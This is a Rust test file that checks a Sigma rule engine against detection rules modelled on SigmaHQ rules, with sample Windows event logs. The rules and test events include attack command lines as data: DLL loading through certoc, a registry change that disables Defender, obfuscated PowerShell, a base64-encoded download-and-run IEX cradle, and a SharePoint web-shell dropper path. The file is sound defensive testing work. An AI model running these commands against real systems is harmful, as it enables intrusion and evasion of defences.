//! Whole rules written the way SigmaHQ writes its process-creation and encoded-command rules.

use super::*;

#[test]
fn rules_shaped_like_sigmahq_process_creation_rules() {
    let certoc = r"
        detection:
            selection_img:
                - Image|endswith: '\certoc.exe'
                - OriginalFileName: 'CertOC.exe'
            selection_cli:
                CommandLine|contains|windash: ' -LoadDLL '
            condition: all of selection_*
    ";
    let cross_user = r"
        detection:
            selection:
                Image|endswith:
                    - '\notepad.exe'
                    - '\calc.exe'
            filter_main_same_user:
                User|fieldref: ParentUser
            filter_optional_user_null:
                User: null
            filter_optional_parent_null:
                ParentUser: null
            filter_optional_empty:
                - ParentUser:
                      - ''
                      - '-'
                - User:
                      - ''
                      - '-'
            condition: selection and not 1 of filter_main_* and not 1 of filter_optional_*
    ";
    let security = r"
        detection:
            selection:
                Provider_Name: 'Microsoft-Windows-Security-Auditing'
                EventID: 4688
                NewProcessName|endswith: '\whoami.exe'
            filter_machine:
                SubjectUserName|endswith: '$'
            condition: selection and not filter_machine
    ";
    let registry = r"
        detection:
            selection:
                EventType: SetValue
                TargetObject|endswith: '\Policies\Microsoft\Windows Defender\DisableAntiSpyware'
                Details: 'DWORD (0x00000001)'
            condition: selection
    ";
    let obfuscation = r"
        detection:
            selection:
                CommandLine|re: '\$PSHome\[\s*\d{1,3}\s*\]\s*\+\s*\$PSHome\['
            condition: selection
    ";
    run_table(
        "rule shapes",
        &[
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\certoc.exe", "CommandLine": "certoc.exe /LoadDLL C:\\Users\\Public\\a.dll"}}}"#,
                true,
            ),
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Users\\Public\\x.exe", "OriginalFileName": "CertOC.exe", "CommandLine": "x.exe -loaddll a.dll"}}}"#,
                true,
            ),
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\certoc.exe", "CommandLine": "certoc.exe -GetCACAPS https://a"}}}"#,
                false,
            ),
            (
                certoc,
                r#"{"Event": {"EventData": {"Image": "C:\\Windows\\System32\\rundll32.exe", "CommandLine": "rundll32 -LoadDLL a.dll"}}}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice", "ParentUser": "CORP\\bob"}"#,
                true,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice", "ParentUser": "corp\\ALICE"}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice"}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe", "User": "CORP\\alice", "ParentUser": "-"}"#,
                false,
            ),
            (
                cross_user,
                r#"{"Image": "C:\\Windows\\System32\\calc.exe.bak", "User": "CORP\\alice", "ParentUser": "CORP\\bob"}"#,
                false,
            ),
            (
                security,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": {"#text": 4688, "#attributes": {"Qualifiers": 0}}}, "EventData": {"SubjectUserName": "alice", "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}}}"##,
                true,
            ),
            (
                security,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": {"#text": 4688, "#attributes": {"Qualifiers": 0}}}, "EventData": {"SubjectUserName": "HOST01$", "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}}}"##,
                false,
            ),
            (
                security,
                r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": {"#text": 4689, "#attributes": {"Qualifiers": 0}}}, "EventData": {"SubjectUserName": "alice", "NewProcessName": "C:\\Windows\\System32\\whoami.exe"}}}"##,
                false,
            ),
            (
                registry,
                r#"{"EventType": "SetValue", "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000001)"}"#,
                true,
            ),
            (
                registry,
                r#"{"EventType": "SetValue", "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000000)"}"#,
                false,
            ),
            (
                obfuscation,
                r#"{"CommandLine": "powershell &( $PSHome[ 4 ]+$PSHome[30]+'x')"}"#,
                true,
            ),
            (
                obfuscation,
                r#"{"CommandLine": "powershell &( $pshome[4]+$pshome[30]+'x')"}"#,
                false,
            ),
        ],
    );
}

#[test]
fn rules_shaped_like_sigmahq_encoded_command_rules() {
    let iex = "
        detection:
            selection:
                - CommandLine|base64offset|contains:
                      - 'IEX (['
                      - 'iex (New'
                      - 'IEX (New'
                - CommandLine|contains:
                      - 'SQBFAFgAIAAoAE4AZQB3A'
                      - 'kARQBYACAAKABOAGUAdw'
                      - 'JAEUAWAAgACgATgBlAHcA'
            condition: selection
    ";
    let sharepoint = r"
        detection:
            selection_img:
                ParentImage|endswith: '\w3wp.exe'
            selection_encoded_aspx:
                - CommandLine|wide|base64offset|contains: 'spinstall0.aspx'
                - CommandLine|base64|contains: 'spinstall0.aspx'
            selection_ioc:
                CommandLine|contains: 'TEMPLATE\LAYOUTS\spinstall0.aspx'
            condition: (selection_img and 1 of selection_encoded_*) or selection_ioc
    ";
    let process = |parent: &str, cmd: &str| {
        format!(r#"{{"ParentImage": "C:\\Windows\\System32\\{parent}", "CommandLine": "{cmd}"}}"#)
    };
    let dropper =
        r"$p = 'C:\PROGRA~1\COMMON~1\MICROS~1\WEBSER~1\16\TEMPLATE\LAYOUTS\spinstall0.aspx'";
    let wide_dropper = format!("powershell.exe -EncodedCommand {}", b64(&utf16le(dropper)));
    let cases = [
        (
            iex,
            command_line(&b64(
                b"$c=1;IEX (New-Object Net.WebClient).DownloadString('http://a')",
            )),
            true,
        ),
        (
            iex,
            command_line(&b64(b"IEX ([Text.Encoding]::UTF8.GetString($b))")),
            true,
        ),
        (
            iex,
            command_line(&format!(
                "powershell -enc {}",
                b64(&utf16le("IEX (New-Object Net.WebClient)"))
            )),
            true,
        ),
        (
            iex,
            command_line(&b64(b"Write-Host (New-Object Net.WebClient)")),
            false,
        ),
        (
            iex,
            command_line("powershell -c IEX (New-Object Net.WebClient)"),
            false,
        ),
        (
            sharepoint,
            process("inetsrv\\\\w3wp.exe", &wide_dropper),
            true,
        ),
        (sharepoint, process("explorer.exe", &wide_dropper), false),
        (
            sharepoint,
            process(
                "inetsrv\\\\w3wp.exe",
                &format!("cmd /c echo {}", b64(b"spinstall0.aspx uploaded")),
            ),
            true,
        ),
        (
            sharepoint,
            process(
                "inetsrv\\\\w3wp.exe",
                &format!("powershell -e {}", b64(&utf16le("Get-ChildItem"))),
            ),
            false,
        ),
        (
            sharepoint,
            process("cmd.exe", r"type C:\\x\\TEMPLATE\\LAYOUTS\\spinstall0.aspx"),
            true,
        ),
    ];
    run_table("encoded command rules", &cases);
}
